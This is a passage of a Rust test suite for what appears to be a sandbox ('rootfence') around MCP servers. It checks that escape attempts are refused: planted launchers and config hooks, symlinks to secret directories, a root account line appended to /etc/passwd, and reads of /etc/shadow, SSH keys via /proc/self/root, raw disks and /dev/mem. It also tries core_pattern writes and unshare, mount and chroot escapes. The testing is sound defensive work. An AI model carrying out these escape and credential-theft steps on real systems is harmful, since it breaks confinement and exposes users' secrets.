        reads("venv", venv.join("secret.txt"))
    );
    // Through the planted link the venv is not granted: its python runs
    // as the Python it was made from and is refused the file, or (without
    // a view, its pyvenv.cfg refused) does not start.
    let through = w.join(".venv/bin/python3");
    let p = Probe::new(
        t.command(&extra, &[through.to_str().unwrap(), "-c", &venv_code])
            .output()
            .unwrap(),
    );
    assert!(!common::stdout(&p.out).contains(SECRET), "{:?}", p.out);
    if p.results.contains_key("venv") {
        p.refused("venv");
    } else {
        assert!(!p.out.status.success(), "{:?}", p.out);
    }
    // The twins: the user's own venv, named by the user.
    let own = venv.join("bin/python3");
    Probe::new(
        t.command(&extra, &[own.to_str().unwrap(), "-c", &venv_code])
            .output()
            .unwrap(),
    )
    .allowed("venv");
    assert_eq!(content(&t.p("otherproj/secret.txt")), SECRET);
}

#[test]
fn the_scratch_directory_is_never_made_where_the_server_may_write() {
    // rootfence makes the server's scratch directory (TMPDIR) by a path it
    // goes on using: where the server may write, a server already running
    // there could swap it for a link between the two. With rootfence's own
    // TMPDIR in the root, the scratch directory is made in /tmp instead;
    // the twin: a TMPDIR the server may not write is used.
    let t = tree();
    let inside = t.r.join("tmp");
    let outside = t.p("mytmp");
    for d in [&inside, &outside] {
        std::fs::create_dir_all(d).unwrap();
        if let Some((uid, gid)) = t.user {
            std::os::unix::fs::chown(d, Some(uid), Some(gid)).unwrap();
        }
    }
    let code = format!(
        "{}\ncheck('tmpdir', lambda: print('tmp=' + os.environ['TMPDIR']))",
        common::PRELUDE
    );
    let py = common::python();
    let run = |base: &std::path::Path| {
        let mut c = t.command(&[], &[py.to_str().unwrap(), "-c", &code]);
        c.env("TMPDIR", base);
        Probe::new(c.output().unwrap())
    };
    let p = run(&inside);
    let tmp = p.allowed("tmpdir").value("tmp");
    assert!(!tmp.starts_with(&*t.r.to_string_lossy()), "{tmp}");
    assert!(tmp.starts_with("/tmp/"), "{tmp}");
    let p = run(&outside);
    let tmp = p.allowed("tmpdir").value("tmp");
    assert!(tmp.starts_with(&*outside.to_string_lossy()), "{tmp}");
    // A [runtime] write path spelled through a link is the same place.
    let link = t.p("wlink");
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    let policy = t.policy(
        "write-link.toml",
        &format!("version = 1\n[runtime]\nwrite = [\"{}\"]\n", link.display()),
    );
    let mut c = t.command(&["--policy", &policy], &[py.to_str().unwrap(), "-c", &code]);
    c.env("TMPDIR", &outside);
    let p = Probe::new(c.output().unwrap());
    let tmp = p.allowed("tmpdir").value("tmp");
    assert!(tmp.starts_with("/tmp/"), "{tmp}");
}

/// A program at `path` (its directory made): `text`, mode 0755.
fn program(path: &std::path::Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A directory of the user's outside every root, `<base>/NAME`, holding
/// `secret.txt` ([`SECRET`]).
fn secret_dir(t: &common::Tree, name: &str) -> std::path::PathBuf {
    let d = t.p(name);
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("secret.txt"), SECRET).unwrap();
    d
}

#[test]
fn a_launcher_the_server_may_have_written_is_never_run_by_rootfence() {
    // rootfence asks a package runner where its caches are (pipx
    // environment), running it with the user's rights, outside any
    // sandbox. One found on PATH in a root the server may write is the
    // server's: planted at one launch, it is not run at the next (a file
    // it would write outside stays unwritten). The twin: the same
    // launcher in a PATH directory of the user's is asked.
    let t = tree();
    let marker = t.outside.join("asked");
    let fake = format!(
        "#!/bin/sh\necho \"$@\" >> {}\necho {}\n",
        marker.display(),
        t.outside.display()
    );
    // The first launch plants it in the root.
    let planted = t.r.join(".venv/bin");
    let py = common::python();
    Probe::new(
        t.command(
            &[],
            &[
                py.to_str().unwrap(),
                "-c",
                &format!(
                    "{}\ncheck('plant', lambda: (os.makedirs('{d}'), write('{d}/pipx', {fake:?}), os.chmod('{d}/pipx', 0o755)))",
                    common::PRELUDE,
                    d = planted.display(),
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("plant");
    let run = |bin: &std::path::Path| {
        t.command(&[], &["pipx", "run", "cowsay"])
            .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
            .output()
            .unwrap()
    };
    let out = run(&planted);
    assert!(!marker.exists(), "rootfence ran the server's pipx: {out:?}");
    assert!(
        common::stderr(&out).contains("not asked where its caches are"),
        "{}",
        common::stderr(&out)
    );
    // The twin: the user's own.
    let own = t.p("userbin");
    program(&own.join("pipx"), &fake);
    if let Some((uid, gid)) = t.user {
        std::os::unix::fs::chown(&t.outside, Some(uid), Some(gid)).unwrap();
    }
    let out = run(&own);
    if t.no_landlock() {
        // Without Landlock it cannot be asked blind to what the server may
        // write (its root): it is not asked, and that is said.
        assert!(!marker.exists(), "asked without a blindfold: {out:?}");
        assert!(
            common::stderr(&out).contains("cannot here (this kernel has no Landlock)"),
            "{}",
            common::stderr(&out)
        );
        return;
    }
    assert!(
        std::fs::read_to_string(&marker).is_ok_and(|m| m.contains("environment")),
        "the user's pipx was not asked"
    );
}

#[test]
fn a_launchers_configuration_the_server_may_have_written_steers_nothing() {
    // rootfence asks the user's own package runner where its cache is and
    // grants its answer. The runner's answer comes from its configuration
    // (here the file $PIPXRC names), and a configuration may run code. One
    // the server wrote in its root at one launch is the server's word: at
    // the next launch it neither names the cache granted (a directory of
    // the user's outside) nor runs (a file it would write outside stays
    // unwritten). The twins: the runner still answers (its default cache
    // is granted), and a configuration the server may not write is
    // followed.
    let t = tree();
    let secret = secret_dir(&t, "otherproj");
    let default = t.p("pipxhome");
    std::fs::create_dir_all(&default).unwrap();
    std::fs::write(default.join("cached.txt"), "CACHED").unwrap();
    let marker = t.outside.join("hook-ran");
    // As asked (`environment`), it reads its configuration (a line naming
    // its home, and a hook it runs); as the server (`run`), it prints what
    // it can read of both homes.
    let fake = format!(
        "#!/bin/sh\n\
         if [ \"$1\" = environment ]; then\n\
           [ -f \"$PIPXRC.hook\" ] && sh \"$PIPXRC.hook\"\n\
           head -n1 \"$PIPXRC\" 2>/dev/null || echo {default}\n\
         else\n\
           cat {secret}/secret.txt {default}/cached.txt\n\
         fi\n",
        default = default.display(),
        secret = secret.display(),
    );
    for bin in ["userbin", "userbin2"] {
        program(&t.p(bin).join("pipx"), &fake);
    }
    if let Some((uid, gid)) = t.user {
        std::os::unix::fs::chown(&t.outside, Some(uid), Some(gid)).unwrap();
    }
    // The first launch writes the configuration in the root.
    let conf = t.r.join("pipx.conf");
    let py = common::python();
    Probe::new(
        t.command(
            &[],
            &[
                py.to_str().unwrap(),
                "-c",
                &format!(
                    "{}\ncheck('plant', lambda: (write('{c}', '{s}\\n'), write('{c}.hook', 'echo ran > {m}\\n')))",
                    common::PRELUDE,
                    c = conf.display(),
                    s = secret.display(),
                    m = marker.display(),
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("plant");
    let run = |bin: &str, rc: &std::path::Path| {
        t.command(&[], &["pipx", "run", "cowsay"])
            .env("PATH", format!("{}:/usr/bin:/bin", t.p(bin).display()))
            .env("PIPXRC", rc)
            .output()
            .unwrap()
    };
    let out = run("userbin", &conf);
    let shown = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(!shown.contains(SECRET), "the server's configuration named the cache: {out:?}");
    assert!(!marker.exists(), "rootfence ran the server's hook outside: {out:?}");
    if t.no_landlock() {
        // Without Landlock it cannot be asked blind to what the server may
        // write: it is not asked, and that is said.
        assert!(
            common::stderr(&out).contains("cannot here (this kernel has no Landlock)"),
            "{}",
            common::stderr(&out)
        );
        return;
    }
    assert!(shown.contains("CACHED"), "the runner's default cache was not granted: {out:?}");
    // The twin: the user's own configuration, where the server may not
    // write, is followed (another copy of the runner: answers are kept
    // per binary).
    let own = t.p("conf/pipx.conf");
    std::fs::create_dir_all(own.parent().unwrap()).unwrap();
    std::fs::write(&own, format!("{}\n", secret.display())).unwrap();
    let out = run("userbin2", &own);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(SECRET),
        "the user's configuration was not followed: {out:?}"
    );
}

/// `rootfence run -- argv` with no root of its own, the host answering
/// `roots/list` with `root`: send `initialize` (then `initialized`),
/// answer what rootfence asks, and return once `done` (or 30 s passed),
/// with rootfence's stderr.
fn hosted_run(
    t: &common::Tree,
    root: &std::path::Path,
    argv: &[&str],
    env: &[(&str, String)],
    done: &dyn Fn() -> bool,
) -> String {
    use std::io::{BufRead, Read, Write};
    let mut c = t.rootfence_command();
    c.arg("run").arg("--no-watch");
    if !t.namespaces || t.no_landlock() {
        c.arg("--policy")
            .arg(t.policy("no-namespaces.toml", "version = 1\n"));
    }
    c.arg("--")
        .args(argv)
        .env_clear()
        .env("HOME", &t.home)
        .env("LANG", "C.UTF-8")
        .env("RUST_LOG", "warn")
        .current_dir(&t.base)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    for (k, v) in env {
        c.env(k, v);
    }
    t.as_runner(&mut c);
    let mut child = c.spawn().expect("start rootfence run");
    let mut stdin = child.stdin.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    let out = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","id":1,"method":"initialize","params":{{"protocolVersion":"2025-06-18","capabilities":{{"roots":{{"listChanged":true}}}},"clientInfo":{{"name":"t","version":"1"}}}}}}"#
    )
    .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !done() && std::time::Instant::now() < deadline {
        let Ok(line) = rx.recv_timeout(std::time::Duration::from_millis(50)) else {
            continue;
        };
        let v: serde_json::Value = serde_json::from_str(&line).unwrap_or_default();
        if v["method"] == "roots/list" {
            let answer = serde_json::json!({"jsonrpc": "2.0", "id": v["id"], "result": {"roots": [
                {"uri": rootfence::roots::path_to_uri(root), "name": "project"}]}});
            writeln!(stdin, "{answer}").unwrap();
        } else if v["id"] == 1 {
            writeln!(stdin, r#"{{"jsonrpc":"2.0","method":"notifications/initialized"}}"#).unwrap();
        }
    }
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();
    let mut err = String::new();
    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
    err
}

#[test]
fn what_the_server_wrote_in_a_root_the_host_gave_steers_nothing_outside() {
    // The host's roots are the server's to write as much as a root on the
    // command line. A launcher the server planted on PATH in one is never
    // run by rootfence (a file it would write outside stays unwritten),
    // and a launcher configuration it wrote there names no cache (a
    // directory of the user's outside stays unread). The twin: the
    // user's own launcher and configuration, outside the root, are
    // followed.
    let t = tree();
    let secret = secret_dir(&t, "otherproj");
    let marker = t.outside.join("planted-ran");
    let got = t.r.join("got");
    let py = common::python();
    // As asked (`environment`), the user's pipx answers what its
    // configuration ($PIPXRC) names; as the server (`run`), it writes in
    // the root what it can read of that directory, and answers
    // initialize.
    let server = format!(
        "import json, sys\n\
         for line in sys.stdin:\n\
         \x20   req = json.loads(line)\n\
         \x20   if req.get(\"method\") == \"initialize\":\n\
         \x20       try: got = open(\"{s}/secret.txt\").read()\n\
         \x20       except OSError as e: got = \"refused %s\" % e.errno\n\
         \x20       try: open(\"{g}\", \"w\").write(got)\n\
         \x20       except OSError: pass\n\
         \x20       print(json.dumps({{\"jsonrpc\": \"2.0\", \"id\": req[\"id\"], \"result\": {{\"protocolVersion\": \"2025-06-18\", \"capabilities\": {{}}, \"serverInfo\": {{\"name\": \"p\", \"version\": \"1\"}}}}}}), flush=True)\n",
        s = secret.display(),
        g = got.display(),
    );
    let user_pipx = format!(
        "#!/bin/sh\n\
         if [ \"$1\" = environment ]; then head -n1 \"$PIPXRC\" 2>/dev/null || echo /nonexistent; exit 0; fi\n\
         exec {py} -c '{server}'\n",
        py = py.display(),
    );
    let userbin = t.p("userbin");
    program(&userbin.join("pipx"), &user_pipx);
    // An earlier session, the host giving the root: its server could
    // write there (it writes `got`) ...
    let first = hosted_run(
        &t,
        &t.r,
        &[py.to_str().unwrap(), "-c", &server],
        &[("PATH", "/usr/bin:/bin".into())],
        &|| got.exists(),
    );
    assert!(got.exists(), "the first session's server did not start: {first}");
    // ... and left a launcher on the PATH directory of the root's project,
    // and a launcher configuration.
    let planted = t.r.join("node_modules/.bin");
    program(
        &planted.join("pipx"),
        &format!(
            "#!/bin/sh\necho ran > {}\nexec {} -c '{server}'\n",
            marker.display(),
            py.display()
        ),
    );
    let conf = t.r.join("pipx.conf");
    std::fs::write(&conf, format!("{}\n", secret.display())).unwrap();
    if let Some((uid, gid)) = t.user {
        std::os::unix::fs::chown(&t.outside, Some(uid), Some(gid)).unwrap();
    }
    let path = |first: &std::path::Path| format!("{}:/usr/bin:/bin", first.display());
    // The planted launcher first on PATH.
    std::fs::remove_file(&got).unwrap();
    let err = hosted_run(
        &t,
        &t.r,
        &["pipx", "run", "cowsay"],
        &[("PATH", path(&planted)), ("PIPXRC", "/nonexistent".into())],
        &|| got.exists(),
    );
    assert!(!marker.exists(), "rootfence ran what the server planted in the host's root: {err}");
    // The user's launcher, its configuration in the host's root.
    let _ = std::fs::remove_file(&got);
    let err = hosted_run(
        &t,
        &t.r,
        &["pipx", "run", "cowsay"],
        &[("PATH", path(&userbin)), ("PIPXRC", conf.display().to_string())],
        &|| got.exists(),
    );
    let read = std::fs::read_to_string(&got).unwrap_or_else(|e| panic!("the server did not start ({e}): {err}"));
    assert!(!read.contains(SECRET), "the configuration the server wrote named the cache: {err}");
    if t.no_landlock() {
        return;
    }
    // The twin: the user's configuration, outside the root (another copy
    // of the launcher: answers are kept per binary).
    let own = t.p("conf/pipx.conf");
    std::fs::create_dir_all(own.parent().unwrap()).unwrap();
    std::fs::write(&own, format!("{}\n", secret.display())).unwrap();
    let userbin2 = t.p("userbin2");
    std::fs::create_dir_all(&userbin2).unwrap();
    std::fs::copy(userbin.join("pipx"), userbin2.join("pipx")).unwrap();
    let _ = std::fs::remove_file(&got);
    let err = hosted_run(
        &t,
        &t.r,
        &["pipx", "run", "cowsay"],
        &[("PATH", path(&userbin2)), ("PIPXRC", own.display().to_string())],
        &|| got.exists(),
    );
    let read = std::fs::read_to_string(&got).unwrap_or_else(|e| panic!("the server did not start ({e}): {err}"));
    assert!(read.contains(SECRET), "the user's configuration was not followed: {read} {err}");
}

#[test]
fn a_root_of_an_earlier_session_widens_nothing_once_it_is_no_root() {
    // A server let write a project's directory in one session removes its
    // marker (so the project looks like it begins one level up, at the
    // user's monorepo) and leaves a script there. At a later launch that
    // directory is no root, and the user runs the script: the project rule
    // must not grant the monorepo (its other project's `.env`), since
    // rootfence let a server write where the script lies.
    let t = tree();
    let mono = t.p("mono");
    for d in ["app", "other"] {
        std::fs::create_dir_all(mono.join(d)).unwrap();
    }
    std::fs::write(mono.join("package.json"), "{}").unwrap();
    std::fs::write(mono.join("app/package.json"), "{}").unwrap();
    std::fs::write(mono.join("other/.env"), SECRET).unwrap();
    let app = mono.join("app");
    let py = common::python();
    let script = format!("print(open('{}/other/.env').read())\n", mono.display());
    Probe::new(
        t.command(
            &["--root", app.to_str().unwrap()],
            &[
                py.to_str().unwrap(),
                "-c",
                &format!(
                    "{}\ncheck('plant', lambda: (os.remove('{a}/package.json'), write('{a}/server.py', {script:?})))",
                    common::PRELUDE,
                    a = app.display(),
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("plant");
    let out = t
        .command(&[], &[py.to_str().unwrap(), app.join("server.py").to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains(SECRET),
        "the project rule granted the monorepo from a place a server wrote: {out:?}"
    );
    // Said, with the way out.
    let err = common::stderr(&out);
    assert!(
        err.contains("grants nothing outside itself") && err.contains("[runtime] read"),
        "{err}"
    );
    assert_eq!(content(&mono.join("other/.env")), SECRET);
}

#[test]
fn a_link_left_in_a_place_of_an_earlier_session_leads_nowhere_outside() {
    // From a place a server was let write before, a grant inside that
    // place still comes (the project of a script there); the server left
    // a link there (node_modules, the project's dependencies) to a
    // directory of the user's outside: at the next launch it grants
    // nothing. The twin: the script's own project is read.
    let t = tree();
    let work = t.p("work");
    let docs = t.p("documents");
    std::fs::create_dir_all(work.join("proj")).unwrap();
    std::fs::create_dir_all(&docs).unwrap();
    std::fs::write(docs.join("secret.txt"), SECRET).unwrap();
    std::fs::write(work.join("proj/package.json"), "{}").unwrap();
    std::fs::write(work.join("proj/index.js"), "OWN").unwrap();
    Probe::new(
        t.command(
            &["--root", work.to_str().unwrap()],
            &[
                common::python().to_str().unwrap(),
                "-c",
                &format!(
                    "{}\ncheck('plant', lambda: os.symlink('{}', '{}/node_modules'))",
                    common::PRELUDE,
                    docs.display(),
                    work.display()
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("plant");
    let out = t
        .command(
            &[],
            &[
                "/bin/cat",
                work.join("proj/index.js").to_str().unwrap(),
                work.join("node_modules/secret.txt").to_str().unwrap(),
            ],
        )
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(!shown.contains(SECRET), "a link the server left granted its target: {out:?}");
    assert!(shown.contains("OWN"), "the script's own project was not read: {out:?}");
    assert_eq!(content(&docs.join("secret.txt")), SECRET);
}

#[test]
fn links_the_server_planted_on_the_way_to_a_path_directory_grant_nothing() {
    // The toolchain rule grants what a PATH directory's programs lead to
    // and the install their layout shows. Links the server planted in its
    // root lead there too: a virtual environment directory in the root
    // that is a link to an install of the user's (PATH names root/.venv/bin),
    // and a link in the root that a link of the user's PATH leads through.
    // Neither grants the install at the next launch; the twin: the user's
    // own PATH directory of that install does.
    use std::os::unix::fs::PermissionsExt;
    let t = tree();
    let install = t.p("otherproj");
    std::fs::create_dir_all(install.join("bin")).unwrap();
    std::fs::create_dir_all(install.join("lib/python3.11")).unwrap();
    std::fs::write(install.join("bin/tool"), "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(install.join("bin/tool"), std::fs::Permissions::from_mode(0o755))
        .unwrap();
    std::fs::write(install.join("secret.txt"), SECRET).unwrap();
    let userbin = t.p("userbin2");
    std::fs::create_dir_all(&userbin).unwrap();
    std::os::unix::fs::symlink(t.r.join("bin/mytool"), userbin.join("mytool")).unwrap();
    let py = common::python();
    // The first launch plants the links.
    Probe::new(
        t.command(
            &[],
            &[
                py.to_str().unwrap(),
                "-c",
                &format!(
                    "{}\n\
                     check('venv', lambda: os.symlink('{i}', '{r}/.venv'))\n\
                     check('bin', lambda: (os.makedirs('{r}/bin'), os.symlink('{i}/bin/tool', '{r}/bin/mytool')))",
                    common::PRELUDE,
                    i = install.display(),
                    r = t.r.display(),
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("venv")
    .allowed("bin");
    let code = format!(
        "{}\ncheck('secret', lambda p: read(p), path='{}')",
        common::PRELUDE,
        install.join("secret.txt").display()
    );
    let run = |path: String| {
        Probe::new(
            t.command(&[], &[py.to_str().unwrap(), "-c", &code])
                .env("PATH", path)
                .output()
                .unwrap(),
        )
    };
    run(format!("{}:/usr/bin:/bin", t.r.join(".venv/bin").display())).refused("secret");
    run(format!("{}:/usr/bin:/bin", userbin.display())).refused("secret");
    run(format!("{}:/usr/bin:/bin", install.join("bin").display())).allowed("secret");
}

#[test]
fn the_servers_own_program_grants_itself_and_its_libraries_not_the_tree_around_it() {
    // The server's command names a program; what lies around it is not the
    // user's word. A native program in ~/go/bin runs, and does not read
    // GOPATH's sources beside it; a program built with its libraries
    // beside it ($ORIGIN/../lib, as relocatable releases ship) loads them
    // and runs, and does not read the notes in its directory.
    let t = tree();
    let h = &t.home;
    let put = |rel: &str, text: &str| {
        let p = h.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        p
    };
    let secret_go = put("go/src/x/secret.go", SECRET);
    let cat = h.join("go/bin/cat");
    std::fs::create_dir_all(cat.parent().unwrap()).unwrap();
    std::fs::copy("/bin/cat", &cat).unwrap();
    let app = h.join("apps/tool");
    let lib_c = put("apps/src/hello.c", "const char *hello(void) { return \"hello-from-lib\"; }\n");
    let main_c = put(
        "apps/src/main.c",
        "#include <stdio.h>\n\
         const char *hello(void);\n\
         int main(int argc, char **argv) {\n\
           printf(\"%s\\n\", hello()); fflush(stdout);\n\
           FILE *f = fopen(argv[1], \"r\");\n\
           if (!f) { perror(\"open\"); return 3; }\n\
           char b[256]; size_t n = fread(b, 1, 255, f); b[n] = 0;\n\
           printf(\"read=%s\\n\", b); return 0;\n\
         }\n",
    );
    std::fs::create_dir_all(app.join("lib")).unwrap();
    std::fs::create_dir_all(app.join("bin")).unwrap();
    let cc = |args: &[&std::ffi::OsStr]| {
        let out = std::process::Command::new("cc").args(args).output().expect("cc (tests/peers/install.sh needs it too)");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    };
    let so = app.join("lib/libhello.so");
    cc(&["-shared".as_ref(), "-fPIC".as_ref(), "-o".as_ref(), so.as_os_str(), lib_c.as_os_str()]);
    let tool = app.join("bin/tool");
    let libdir = format!("-L{}", app.join("lib").display());
    cc(&[
        "-o".as_ref(),
        tool.as_os_str(),
        main_c.as_os_str(),
        libdir.as_ref(),
        "-lhello".as_ref(),
        "-Wl,-rpath,$ORIGIN/../lib".as_ref(),
    ]);
    let notes = put("apps/tool/notes.txt", SECRET);
    // In the library directory: a link named like a library leading out
    // of it, and a file named like one that is no shared object.
    let out_link = app.join("lib/evil.so");
    std::os::unix::fs::symlink(&notes, &out_link).unwrap();
    let fake = put("apps/tool/lib/fake.so.1", SECRET);
    let inside = t.r.join("inside");
    let run = |argv: &[&std::path::Path]| {
        let argv: Vec<&str> = argv.iter().map(|p| p.to_str().unwrap()).collect();
        let out = t.run(&[], &argv);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr),
        )
    };
    // The allowed twins: each program runs and reads in the root.
    let (code, said) = run(&[&cat, &inside]);
    assert_eq!(code, Some(0), "{said}");
    let (code, said) = run(&[&tool, &inside]);
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("hello-from-lib") && said.contains("read="), "{said}");
    // What lies around them is not read.
    let (code, said) = run(&[&cat, &secret_go]);
    assert_ne!(code, Some(0), "{said}");
    assert!(!said.contains(SECRET), "GOPATH's sources read: {said}");
    for other in [&notes, &out_link, &fake] {
        let (code, said) = run(&[&tool, other]);
        assert!(said.contains("hello-from-lib"), "{said}");
        assert_eq!(code, Some(3), "{}: {said}", other.display());
        assert!(!said.contains(SECRET), "{} read: {said}", other.display());
    }
}

#[test]
fn etc_cannot_be_written_and_shadow_not_read() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
             check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
             check('read_passwd', lambda: read('/etc/passwd'))\n\
             check('shadow', lambda p: read(p), path='/etc/shadow')\n\
             check('hostname', lambda p: read(p), path='/etc/hostname')\n\
             check('create_in_root', lambda: write('{r}/rootfence-escape-test'))\n\
             check('append_in_root', lambda: write('{r}/inside', 'x', 'a'))",
            r = t.r.display()
        ),
    )
    .refused("create")
    .refused("passwd")
    // /etc/passwd is a runtime file (user names); it is read-only.
    .allowed("read_passwd")
    .refused("shadow")
    .refused("hostname")
    // The same writes in a root.
    .allowed("create_in_root")
    .allowed("append_in_root");
    assert!(!std::path::Path::new("/etc/rootfence-escape-test").exists());
}

#[test]
fn usr_cannot_be_written() {
    let t = tree();
    std::fs::copy("/usr/bin/true", t.r.join("true")).unwrap();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
             check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
             check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
             check('unlink', lambda: os.unlink('/usr/bin/true'))\n\
             check('read', lambda: open('/usr/bin/env', 'rb').read(4))\n\
             check('create_in_root', lambda: write('{r}/rootfence-escape-test'))\n\
             check('open_in_root', lambda: open('{r}/true', 'r+b'))\n\
             check('unlink_in_root', lambda: os.unlink('{r}/true'))",
            r = t.r.display()
        ),
    )
    .refused("create")
    .refused("bin")
    .refused("python")
    .refused("unlink")
    // /usr is read, and the same writes work in a root.
    .allowed("read")
    .allowed("create_in_root")
    .allowed("open_in_root")
    .allowed("unlink_in_root");
    assert!(!std::path::Path::new("/usr/rootfence-escape-test").exists());
}

#[test]
fn proc_self_root_does_not_reach_outside() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('outside', lambda p: read('/proc/self/root' + p), path='{o}/secret')\n\
             check('home', lambda p: read('/proc/self/root' + p), path=os.environ['HOME'] + '/.ssh/id_rsa')\n\
             check('inside', lambda: read('/proc/self/root{r}/inside'))\n\
             check('own_status', lambda: read('/proc/self/status'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("outside")
    .refused("home")
    .expect("inside", "OK")
    .expect("own_status", "OK");
}

#[test]
fn setuid_chmod_is_refused_everywhere() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('suid_outside', lambda: os.chmod('{o}/secret', 0o4755))\n\
             check('sgid_inside', lambda: os.chmod('{r}/inside', 0o2755))\n\
             check('world_writable', lambda p: os.chmod(p, 0o666), path='{o}/secret')\n\
             check('plain_inside', lambda: os.chmod('{r}/inside', 0o755))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .expect("suid_outside", "EPERM")
    .expect("sgid_inside", "EPERM")
    .refused("world_writable")
    .expect("plain_inside", "OK");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(t.outside.join("secret"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o6002, 0);
}

#[test]
fn device_nodes_cannot_be_made_in_a_root() {
    let t = tree();
    // A block device for the first disk would give the whole disk; the
    // same mknod makes a regular file and a FIFO.
    t.py(
        &[],
        &format!(
            "check('block', lambda: os.mknod('{r}/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n\
             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))\n\
             check('regular', lambda: os.mknod('{r}/plain', 0o600 | stat.S_IFREG))\n\
             check('fifo', lambda: os.mknod('{r}/fifo', 0o600 | stat.S_IFIFO))",
            r = t.r.display()
        ),
    )
    .refused("block")
    .refused("char")
    .allowed("regular")
    .allowed("fifo");
    assert!(!t.r.join("disk").exists() && !t.r.join("mem").exists());
    assert!(t.r.join("plain").is_file());
}

/// Assert that `op` (python of the path `p` and an argument `a`) is
/// refused for those of `checks` (a name, a path, an argument) whose path
/// this machine has, at least `least` of them (a check of a path that is
/// not there would prove nothing), run beside the probe's `more` checks;
/// the probe, for the test's assertions on them.
fn refused_where_present(
    t: &common::Tree,
    checks: &[(&str, &str, &str)],
    least: usize,
    op: &str,
    more: &str,
) -> Probe {
    let here: Vec<_> = checks
        .iter()
        .filter(|(_, p, _)| std::path::Path::new(p).exists())
        .collect();
    assert!(
        here.len() >= least,
        "this machine has only {here:?} of {checks:?}: too few to check"
    );
    let mut code = String::new();
    for (name, path, arg) in &here {
        code.push_str(&format!(
            "check('{name}', lambda p, a='{arg}': {op}, path='{path}')\n"
        ));
    }
    let p = t.py(&[], &format!("{code}{more}"));
    for (name, _, _) in &here {
        p.refused(name);
    }
    p
}

#[test]
fn device_files_are_closed() {
    let t = tree();
    // The devices a server must never open, those of them this machine
    // has (opened to read, or a terminal to write); /dev/null and
    // /dev/urandom are open.
    refused_where_present(
        &t,
        &[
            ("kmsg", "/dev/kmsg", "rb"),
            ("mem", "/dev/mem", "rb"),
            ("vda", "/dev/vda", "rb"),
            ("sda", "/dev/sda", "rb"),
            ("nvme", "/dev/nvme0n1", "rb"),
            ("tty1", "/dev/tty1", "wb"),
        ],
        3,
        "open(p, a)",
        "check('null', lambda: write('/dev/null', 'x'))\n\
         check('urandom', lambda: open('/dev/urandom', 'rb').read(8))",
    )
    .allowed("null")
    .allowed("urandom");
}

#[test]
fn kernel_knobs_cannot_be_written() {
    let t = tree();
    // The knobs this machine has; a server reads its own entries of /proc.
    refused_where_present(
        &t,
        &[
            ("sysrq", "/proc/sysrq-trigger", "h"),
            ("core_pattern", "/proc/sys/kernel/core_pattern", "|/tmp/x"),
            ("sys_write", "/sys/kernel/mm/transparent_hugepage/enabled", "never"),
            ("uevent_helper", "/sys/kernel/uevent_helper", "/tmp/x"),
        ],
        2,
        "write(p, a)",
        "check('sysctl_read', lambda p: read(p), path='/proc/sys/kernel/hostname')\n\
         check('own_read', lambda: read('/proc/self/status'))",
    )
    .refused("sysctl_read")
    .allowed("own_read");
}

#[test]
fn a_new_user_namespace_cannot_mount_over_the_sandbox() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "import ctypes\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             def sc(r):\n\
             \x20   if r != 0:\n\
             \x20       raise OSError(ctypes.get_errno(), 'call')\n\
             check('unshare', lambda: sc(libc.unshare(0x10000000 | 0x00020000)))\n\
             check('unshare_files', lambda: sc(libc.unshare(0x00000400)))\n\
             check('mount_tmpfs', lambda: sc(libc.mount(b'none', b'{o}', b'tmpfs', 0, None)))\n\
             check('bind_root', lambda: sc(libc.mount(b'/', b'{r}', None, 4096 | 16384, None)))\n\
             check('chroot_read', lambda: (sc(libc.chroot(b'{r}')), read('/../outside/secret')))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    // No namespace can be made from inside (a kernel surface no server
